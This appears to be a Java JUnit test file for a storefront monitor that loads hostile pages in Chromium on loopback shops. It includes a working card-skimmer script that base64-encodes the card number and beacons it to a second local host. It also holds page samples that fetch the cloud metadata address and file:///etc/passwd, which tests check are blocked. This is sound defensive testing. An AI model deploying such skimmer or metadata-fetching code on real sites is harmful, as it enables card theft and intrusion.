package dev.mimamori.storefront;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.mimamori.storefront.PageInventory.Request;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Flows and hostile pages, each in a fresh real Chromium, against shops on loopback. */
class FlowAndHostilePageTest {
  static Shop shop;
  static Shop skimmer;

  static final PageVisit.Limits LIMITS =
      new PageVisit.Limits(
          Duration.ofSeconds(15), Duration.ofMillis(1200), Duration.ofSeconds(45), List.of());

  @BeforeAll
  static void start() throws Exception {
    assumeTrue(Chromium.available(), "needs /usr/bin/chromium and /usr/bin/chromedriver");
    shop = new Shop("127.0.0.1");
    skimmer = new Shop("127.0.0.2");
    shop.script("/login.js", "window.loginPage = true;");
    shop.page(
        "/login",
        """
        <!doctype html><html><head><script src="/login.js"></script></head><body>
        <form action="/mypage" method="get">
          <input id="login_email" name="login_email" type="email">
          <input id="login_pass" name="login_pass" type="password">
          <button id="login" type="submit">Log in</button>
        </form></body></html>
        """);
    shop.page(
        "/mypage",
        "<!doctype html><html><body><a id=\"to-checkout\" href=\"/shopping\">Checkout</a></body></html>");
    skimmer.script(
        "/skim.js",
        """
        document.addEventListener('change', () => {
          const c = document.querySelector('[name=card_no]').value;
          if (c.length >= 16) { new Image().src = '%s/p.gif?d=' + btoa(c); }
        }, true);
        """
            .formatted(skimmer.origin()));
    shop.page(
        "/shopping",
        """
        <!doctype html><html><head><script src="%s/skim.js"></script></head><body>
        <form action="/shopping/confirm" method="post">
          <input name="card_no" autocomplete="cc-number"><input name="cvv" autocomplete="cc-csc">
        </form></body></html>
        """
            .formatted(skimmer.origin()));
  }

  @AfterAll
  static void stop() {
    if (shop != null) {
      shop.close();
      skimmer.close();
    }
  }

  static final String LOGIN_FLOW =
      """
      vars: { login: test@example.jp }
      steps:
        - open: /login
        - type: { into: "#login_email", text: "${login}" }
        - type: { into: "#login_pass", text: "${password}" }
        - click: "#login"
        - click: "#to-checkout"
      """;

  private static PageInventory loggedIn;

  /** The login flow's inventory: one visit serves the three tests that read it. */
  synchronized PageInventory loggedInCheckout() {
    if (loggedIn == null) {
      loggedIn = visit("/", FlowParser.parse(LOGIN_FLOW, Map.of("password", "pw-1")));
    }
    return loggedIn;
  }

  PageInventory visit(String path, Flow flow) {
    return PageVisit.inventory(shop.origin() + path, flow, InventoryTaker.TestData.DEFAULT, LIMITS);
  }

  @Test
  void flowLogsInAndInventoriesThePageItEndsOn() {
    PageInventory p = loggedInCheckout();
    assertThat(p.finalUrl()).isEqualTo(shop.origin() + "/shopping");
  }

  @Test
  void flowInventoryListsOnlyTheFinalPagesScripts() {
    PageInventory p = loggedInCheckout();
    assertThat(p.scripts())
        .extracting(PageInventory.Script::src)
        .containsExactly(skimmer.origin() + "/skim.js");
  }

  @Test
  void skimmerBehindTheLoginIsCaughtSendingTheCard() {
    PageInventory p = loggedInCheckout();
    assertThat(p.afterInput())
        .filteredOn(Request::carriesSensitiveData)
        .extracting(Request::host)
        .contains("127.0.0.2");
  }

  @Test
  void flowStepWhoseSelectorFindsNothingFailsNamingTheStep() {
    Flow f = FlowParser.parse("steps:\n  - open: /login\n  - click: '#no-such-button'\n", Map.of());
    PageVisit.Limits tight =
        new PageVisit.Limits(
            Duration.ofSeconds(3), Duration.ofMillis(200), Duration.ofSeconds(30), List.of());
    assertThatThrownBy(
            () ->
                PageVisit.inventory(shop.origin() + "/", f, InventoryTaker.TestData.DEFAULT, tight))
        .isInstanceOf(PageVisit.Failed.class)
        .hasMessageStartingWith("flow step 2 (click #no-such-button)");
  }

  @Test
  void requestToTheCloudMetadataAddressIsBlockedBeforeItLeaves() {
    shop.page(
        "/meta",
        "<!doctype html><script>fetch('http://169.254.169.254/latest/meta-data/').catch(() => 0)</script>");
    PageInventory p = visit("/meta", Flow.NONE);
    assertThat(p.requests())
        .filteredOn(r -> r.host().equals("169.254.169.254"))
        .extracting(Request::error)
        .allMatch(e -> e.contains("blocked: never reachable from the monitor"))
        .isNotEmpty();
  }

  @Test
  void localFileIsBlocked() {
    shop.page(
        "/file",
        "<!doctype html><script>fetch('file:///etc/passwd').catch(() => 0)</script><iframe src=\"file:///etc/passwd\"></iframe>");
    PageInventory p = visit("/file", Flow.NONE);
    assertThat(p.requests()).noneMatch(r -> r.url().startsWith("file:") && !r.failed());
  }

  @Test
  void extraBlockedAddressSuchAsMimamorisOwnIsRefused() {
    shop.page(
        "/own",
        "<!doctype html><script>fetch('%s/api').catch(() => 0)</script>"
            .formatted(skimmer.origin()));
    PageInventory p =
        PageVisit.inventory(
            shop.origin() + "/own",
            Flow.NONE,
            InventoryTaker.TestData.DEFAULT,
            LIMITS.blocking(
                List.of("*://127.0.0.2:" + skimmer.origin().replaceAll(".*:", "") + "/*")));
    assertThat(p.requests())
        .filteredOn(r -> r.host().equals("127.0.0.2"))
        .allMatch(r -> r.error().contains("blocked: never reachable from the monitor"))
        .isNotEmpty();
  }

  @Test
  void endlessRedirectEndsAsAFailedRequestNotAHang() {
    shop.redirect("/loop", "/loop");
    PageInventory p = visit("/loop", Flow.NONE);
    assertThat(p.requests()).anyMatch(r -> r.failed() && r.error().contains("TOO_MANY_REDIRECTS"));
  }

  @Test
  void scriptThatNeverYieldsIsKilledAtTheDeadline() {
    shop.page("/spin", "<!doctype html><title>spin</title><script>for (;;) {}</script>");
    PageVisit.Limits tight =
        new PageVisit.Limits(
            Duration.ofSeconds(4), Duration.ofMillis(200), Duration.ofSeconds(10), List.of());
    assertThatThrownBy(
            () ->
                PageVisit.inventory(
                    shop.origin() + "/spin", Flow.NONE, InventoryTaker.TestData.DEFAULT, tight))
        .isInstanceOf(PageVisit.Failed.class)
        .hasMessageStartingWith("the page did not finish");
  }

  @Test
  void alertLoopEndsInAnInventoryOrAClearFailure() {
    shop.page("/alerts", "<!doctype html><script>for (let i = 0; i < 1e9; i++) alert(i)</script>");
    PageVisit.Limits tight =
        new PageVisit.Limits(
            Duration.ofSeconds(4), Duration.ofMillis(200), Duration.ofSeconds(15), List.of());
    Object outcome;
    try {
      outcome =
          PageVisit.inventory(
              shop.origin() + "/alerts", Flow.NONE, InventoryTaker.TestData.DEFAULT, tight);
    } catch (PageVisit.Failed e) {
      outcome = e;
    }
    assertThat(outcome).isInstanceOfAny(PageInventory.class, PageVisit.Failed.class);
  }

  @Test
  void giantDomIsCutAndSaysSo() {
    shop.page(
        "/giant", "<!doctype html><body>" + "<form><input name=q></form>".repeat(700) + "</body>");
    PageInventory p = visit("/giant", Flow.NONE);
    assertThat(p.limits())
        .contains("forms: only the first " + InventoryTaker.DOM_LIMIT + " are kept");
  }

  @Test
  void watchdogKillsABrowserWhoseCallNeverReturns() throws Exception {
    try (Chromium c = Chromium.start(Duration.ofSeconds(5));
        AutoCloseable w = c.watchdog(Duration.ofSeconds(3))) {
      assertThatThrownBy(
              () ->
                  c.driver()
                      .executeCdpCommand(
                          "Runtime.evaluate",
                          Map.of("expression", "new Promise(() => {})", "awaitPromise", true)))
          .isInstanceOf(org.openqa.selenium.WebDriverException.class);
    }
  }

  @Test
  void failedStepNeverShowsAVariablesValue() {
    Flow f =
        FlowParser.parse(
            "steps:\n  - open: /login\n  - click: '#${password}'\n",
            Map.of("password", "Sup3rSecret"));
    PageVisit.Limits tight =
        new PageVisit.Limits(
            Duration.ofSeconds(3), Duration.ofMillis(200), Duration.ofSeconds(30), List.of());
    assertThatThrownBy(
            () ->
                PageVisit.inventory(shop.origin() + "/", f, InventoryTaker.TestData.DEFAULT, tight))
        .isInstanceOf(PageVisit.Failed.class)
        .hasMessageNotContaining("Sup3rSecret");
  }
}
